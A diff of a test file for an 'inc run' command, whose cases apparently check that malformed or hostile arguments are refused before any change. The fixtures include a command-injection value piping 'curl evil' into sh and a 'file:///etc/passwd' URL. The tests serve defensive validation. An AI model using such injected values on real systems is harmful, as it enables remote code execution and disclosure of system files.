@@ -128,7 +128,7 @@ describe('inc run refuses before any change', () => {
         '--set',
         'image=api:1 && curl evil|sh',
       ],
-      ['feature-flag', '--set', 'url=file:///etc/passwd', '--set', 'enabled=true'],
+      ['feature-flag', '--set', 'url=file:///etc/passwd'],
       ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker'],
       ['rollbak', '--set', 'deployment=api'],
     ];
